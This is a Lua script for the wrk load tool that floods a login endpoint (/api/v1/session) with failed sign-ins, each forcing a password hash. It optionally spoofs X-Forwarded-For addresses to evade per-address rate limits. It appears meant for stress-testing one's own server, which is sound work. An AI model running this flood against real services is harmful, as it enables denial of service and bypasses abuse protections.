-- POSTs sign-ins with wrong passwords for accounts that do not exist (each still costs a hash)
-- to /api/v1/session. With SPREAD set, each request claims
-- its own client address in X-Forwarded-For (the server must trust 127.0.0.1 as a proxy), so
-- no per-address limit applies and every attempt costs a password hash: a distributed flood.
local counter = 0
local tid = 0
local threads = {}

function setup(thread)
  tid = tid + 1
  thread:set("tid", tid)
  table.insert(threads, thread)
end

function init(args)
  wrk.method = "POST"
  wrk.headers["content-type"] = "application/json"
end

local spread = os.getenv("SPREAD") == "1"

function request()
  counter = counter + 1
  local headers = { ["content-type"] = "application/json" }
  if spread then
    headers["x-forwarded-for"] = string.format("10.%d.%d.%d", tid, math.floor(counter / 250) % 250, counter % 250)
  end
  local body = string.format('{"username":"flood%d","password":"wrong-%d"}', counter % 997, counter)
  return wrk.format("POST", "/api/v1/session", headers, body)
end
